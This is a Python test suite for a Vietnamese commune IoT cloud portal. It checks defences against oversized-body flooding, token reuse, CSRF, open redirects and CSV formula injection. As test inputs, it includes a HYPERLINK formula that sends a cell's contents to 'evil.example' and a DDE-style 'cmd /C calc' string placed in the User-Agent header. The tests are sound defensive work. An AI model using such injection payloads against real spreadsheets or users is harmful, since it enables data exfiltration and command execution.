"""Issue 17, hardening (items 12-17) and the audit of what police see (items 2, 4, 5), against a
real ``cloud serve`` process: the portal of the web tests."""

from __future__ import annotations

import csv
import io
import re
import socket
import threading
import time
from datetime import datetime
from pathlib import Path

import httpx
from browser import chromium
from PIL import Image
from test_web_login_security import _login, _users_cli
from web_portal import PASSWORDS, Portal

from cloud.events.store import LOCAL_TZ


def _peak_rss_kb(pid: int) -> int:
    """The process's peak resident memory (VmHWM): it only grows, so a spike cannot hide."""
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmHWM:"):
            return int(line.split()[1])
    raise AssertionError("no VmHWM")


def test_a_50_mb_body_is_refused_at_once_without_the_process_growing(portal: Portal) -> None:
    """Item 13: a client that streams 50 MB at the login route (no account needed) gets 413 before
    the server reads the body; the cloud's peak memory does not move and /healthz stays quick."""
    assert portal.cloud.proc is not None
    pid = portal.cloud.proc.pid
    before = _peak_rss_kb(pid)
    host, port = "127.0.0.1", int(portal.url.rsplit(":", 1)[1])
    size = 50 * 1024 * 1024
    for path, ctype in (
        ("/api/v1/auth/login", "application/json"),
        ("/api/v1/events/1/notes", "application/json"),
    ):
        s = socket.create_connection((host, port), timeout=5)
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}:{port}\r\nContent-Type: {ctype}\r\n"
            f"Content-Length: {size}\r\nAuthorization: Bearer {portal.tokens['ca-daron']}\r\n\r\n"
        )
        started = time.monotonic()
        s.sendall(head.encode())

        def stream(sock: socket.socket = s) -> None:  # the body keeps coming, as an attacker sends it
            chunk = b"x" * 65536
            try:
                for _ in range(size // len(chunk)):
                    sock.sendall(chunk)
            except OSError:
                pass  # the server answered and closed: what we want

        sender = threading.Thread(target=stream, daemon=True)
        sender.start()
        status_line = s.makefile("rb").readline().decode()
        elapsed = time.monotonic() - started
        s.close()
        sender.join(10)
        assert " 413 " in status_line, status_line
        assert elapsed < 0.5, f"413 took {elapsed:.2f} s"
    t0 = time.monotonic()
    assert httpx.get(portal.url + "/healthz").status_code == 200
    assert time.monotonic() - t0 < 0.5
    grown_kb = _peak_rss_kb(pid) - before
    print(f"\n50 MB bodies: 413 after {elapsed * 1000:.0f} ms, peak RSS +{grown_kb} kB")
    assert grown_kb < 5 * 1024, f"peak RSS grew by {grown_kb} kB"
    # A chunked body (no Content-Length) is cut off at the limit too.
    r = httpx.post(
        portal.url + "/api/v1/auth/login",
        content=(b"x" * 65536 for _ in range(64)),
        headers={"content-type": "application/json"},
    )
    assert r.status_code == 413


def test_validation_errors_never_echo_the_input(portal: Portal) -> None:
    secret = "mat-khau-bi-lo-" + "x" * 300
    r = httpx.post(portal.url + "/api/v1/auth/login", json={"username": "", "password": secret})
    assert r.status_code == 422
    assert secret not in r.text and '"input"' not in r.text
    assert r.json()["detail"][0]["loc"] == ["body", "username"]


def test_tokens_die_with_a_password_change_and_with_disable_enable(portal: Portal) -> None:
    """Item 14: a stolen token is worth nothing after the reset, and re-enabling revives none."""
    assert (
        _users_cli(
            portal, "add", "ca-hoa", "--role", "police", "--commune", "da-ron", password="mat-khau-hoa-1"
        ).returncode
        == 0
    )

    def tokens() -> list[str]:
        cli = _users_cli(portal, "token", "ca-hoa").stdout.strip()
        form = {"username": "ca-hoa", "password": current["pw"]}
        oauth = httpx.post(portal.url + "/api/v1/auth/token", data=form).json()["access_token"]
        return [cli, oauth]

    def works(token: str) -> bool:
        r = httpx.get(portal.url + "/api/v1/events", headers={"Authorization": f"Bearer {token}"})
        assert r.status_code in (200, 401), r.status_code
        return r.status_code == 200

    current = {"pw": "mat-khau-hoa-1"}
    stolen = tokens()
    assert all(works(t) for t in stolen)
    out = _users_cli(portal, "set-password", "ca-hoa", password="mat-khau-hoa-2")
    assert "2 API token(s) revoked" in out.stdout, out.stdout + out.stderr
    assert not any(works(t) for t in stolen)
    current["pw"] = "mat-khau-hoa-2"
    fresh = tokens()
    assert all(works(t) for t in fresh)
    assert _users_cli(portal, "disable", "ca-hoa").returncode == 0
    assert _users_cli(portal, "enable", "ca-hoa").returncode == 0
    assert not any(works(t) for t in fresh)  # re-enabling revives no old token
    assert all(works(t) for t in tokens())


def test_audit_csv_neutralises_formulas_and_gives_local_iso_times(portal: Portal) -> None:
    """Item 15 and 5: a login name or User-Agent crafted as a formula is text in the CSV."""
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")'
    r = httpx.post(
        portal.url + "/api/v1/auth/login",
        json={"username": evil[:64], "password": "x"},
        headers={"User-Agent": "@SUM(1+1)*cmd|' /C calc'!A0"},
    )
    assert r.status_code == 401
    status, body = portal.api("admin").get("/api/v1/audit/export.csv?action=login_failed")
    assert status == 200
    rows = list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))
    row = next(x for x in rows if "HYPERLINK" in x["actor"])
    assert row["actor"] == "'" + evil[:64] and row["user_agent"].startswith("'@SUM")
    for x in rows:
        assert not x["actor"].startswith(("=", "+", "-", "@")), x
        assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}\+07:00", x["at"]), x["at"]
        assert datetime.fromisoformat(x["at"]).utcoffset() is not None


def test_snapshots_thumbnails_and_what_the_audit_records(portal: Portal) -> None:
    """Item 2: ?thumb=1 is a small re-encoded JPEG made once; full pictures are audited as views;
    the API's list records the ids it showed. Item 17: snapshots are never cached."""
    police = portal.api("ca-daron")
    pk = portal.ids_of("da-ron")[0]
    status, full = police.get(f"/api/v1/events/{pk}/snapshot")
    assert status == 200
    _, before = portal.api("admin").get("/api/v1/audit?limit=1")
    h = {"Authorization": f"Bearer {portal.tokens['ca-daron']}"}
    r = httpx.get(f"{portal.url}/api/v1/events/{pk}/snapshot?thumb=1", headers=h)
    assert r.status_code == 200 and r.headers["cache-control"] == "no-store"
    thumb = Image.open(io.BytesIO(r.content))
    assert thumb.format == "JPEG" and thumb.width == 240 and r.content != full
    assert len(r.content) < len(full)
    cached = list((portal.cloud.config_path.parent / "state" / "snapshots" / "thumbs").rglob("*.jpg"))
    assert cached, "the thumbnail is kept on disk"
    mtime = cached[0].stat().st_mtime_ns
    assert httpx.get(f"{portal.url}/api/v1/events/{pk}/snapshot?thumb=1", headers=h).content == r.content
    assert cached[0].stat().st_mtime_ns == mtime  # made once
    full_r = httpx.get(f"{portal.url}/api/v1/events/{pk}/snapshot", headers=h)
    assert full_r.headers["cache-control"] == "no-store"
    status, page = police.get("/api/v1/events?limit=3")
    assert status == 200
    _, after = portal.api("admin").get(f"/api/v1/audit?actor=ca-daron&after_id={before[0]['id']}")
    actions = [(e["action"], e["target"]) for e in after]
    assert actions.count(("snapshot_view", f"event:{pk}")) == 1  # the full view, not the thumbnails
    listed = next(e for e in after if e["action"] == "event_list")
    assert listed["detail"]["shown"] == [e["id"] for e in page["events"]]


def test_export_views_and_timelines_follow_one_rule(portal: Portal) -> None:
    """Item 4: the API's export record is audited as a view; an access point has no timeline."""
    police = portal.api("ca-daron")
    status, rec = police.post("/api/v1/exports", {"event_ids": portal.ids_of("da-ron")[:1]})
    assert status == 201 and rec["key_fingerprint"]
    assert police.get(f"/api/v1/exports/{rec['id']}")[0] == 200
    _, rows = portal.api("admin").get("/api/v1/audit?actor=ca-daron&action=export_view&limit=5")
    assert rows and rows[0]["target"] == f"export:{rec['id']}"
    assert police.get("/api/v1/cameras/dr-ap-01/timeline?day=2026-11-20")[0] == 404
    with httpx.Client(base_url=portal.url) as web:
        assert _login(web, "ca-daron", PASSWORDS["ca-daron"]).status_code == 303
        assert web.get("/cameras/dr-ap-01/timeline?day=2026-11-20").status_code == 404
    status, keys = police.get("/api/v1/exports/keys")
    assert status == 200 and keys["current"]["fingerprint"] == rec["key_fingerprint"]


def test_the_audit_page_reads_in_vietnamese_with_details_paging_and_filters(portal: Portal) -> None:
    police = portal.api("ca-daron")
    for _ in range(110):  # more than one page of list views
        police.get("/api/v1/events?limit=1")
    with httpx.Client(base_url=portal.url) as web:
        assert _login(web, "admin", PASSWORDS["admin"]).status_code == 303
        page = web.get("/audit", params={"actor": "ca-daron", "action": "event_list"}).text
        assert "Xem danh sách sự kiện" in page and ">event_list<" not in page
        assert "đã hiển thị" in page and "Chi tiết" in page
        ids = re.findall(r"<tr><td>(\d+)</td>", page)
        assert len(ids) == 100
        older = re.search(r'href="([^"]+)" id="audit-older"', page)
        assert older
        page2 = web.get(older.group(1).replace("&amp;", "&")).text
        ids2 = re.findall(r"<tr><td>(\d+)</td>", page2)
        assert ids2 and int(ids2[0]) < int(ids[-1])
        today = datetime.now(LOCAL_TZ).date().isoformat()
        assert "Xem danh sách sự kiện" in web.get("/audit", params={"date_from": today}).text
        empty = web.get("/audit", params={"date_to": "2001-01-01"}).text
        assert "0 bản ghi khớp bộ lọc" in empty


def test_login_from_another_site_is_refused(portal: Portal) -> None:
    """Item 17: login CSRF."""
    form = {"username": "ca-daron", "password": PASSWORDS["ca-daron"], "next": "/events"}
    with httpx.Client(base_url=portal.url) as web:
        r = web.post("/login", data=form, headers={"Sec-Fetch-Site": "cross-site"})
        assert r.status_code == 403 and "ciot_session" not in web.cookies
        assert "Đăng nhập phải gửi từ chính trang đăng nhập" in r.text
        r = web.post("/login", data=form, headers={"Origin": "http://evil.example"})
        assert r.status_code == 403 and "ciot_session" not in web.cookies
        r = web.post("/login", data=form, headers={"Origin": portal.url})
        assert r.status_code == 303 and "ciot_session" in web.cookies
    r = httpx.post(
        portal.url + "/api/v1/auth/login",
        json={"username": "ca-daron", "password": PASSWORDS["ca-daron"]},
        headers={"Sec-Fetch-Site": "same-site"},
    )
    assert r.status_code == 403
    _, rows = portal.api("admin").get("/api/v1/audit?actor=anonymous&action=access_denied")
    assert rows and rows[0]["detail"]["outcome"] == "cross_site"  # audited, rate-limited like refusals


def test_language_links_stay_on_the_page_and_open_routes_are_the_documented_ones(portal: Portal) -> None:
    """Item 17: the 404 page's language link cannot lead to another host. Item 12: only the
    documented routes answer without a login."""
    with httpx.Client(base_url=portal.url) as web:
        r = web.get(portal.url + "//evil.example/")
        assert r.status_code == 404
        links = re.findall(r'href="([^"]*)" class="[^"]*" hreflang', r.text)
        assert links and all(x.startswith("?") for x in links), links
    anon = portal.api(None)
    assert anon.get("/healthz")[0] == 200
    assert anon.get("/readyz")[0] in (200, 503)
    assert anon.get("/openapi.json")[0] == 200
    assert anon.get("/metrics")[0] == 401  # counters need a technician's or admin's token
    assert portal.api("kythuat").get("/metrics")[0] == 200
    assert portal.api("ca-daron").get("/metrics")[0] == 403


def test_docs_render_in_chromium_under_the_csp(portal: Portal) -> None:
    """Item 17: Swagger UI from the package (no CDN), started without inline script."""
    with chromium() as browser:
        page = browser.new_page()
        blocked: list[str] = []
        page.on("console", lambda m: blocked.append(m.text) if "Content Security Policy" in m.text else None)
        r = page.goto(portal.url + "/docs")
        assert r is not None and "default-src 'self'" in r.headers["content-security-policy"]
        page.wait_for_selector(".opblock", timeout=20_000)
        assert page.locator(".opblock").count() >= 30
        assert "commune-iot cloud" in page.inner_text(".info")
        assert not blocked, blocked
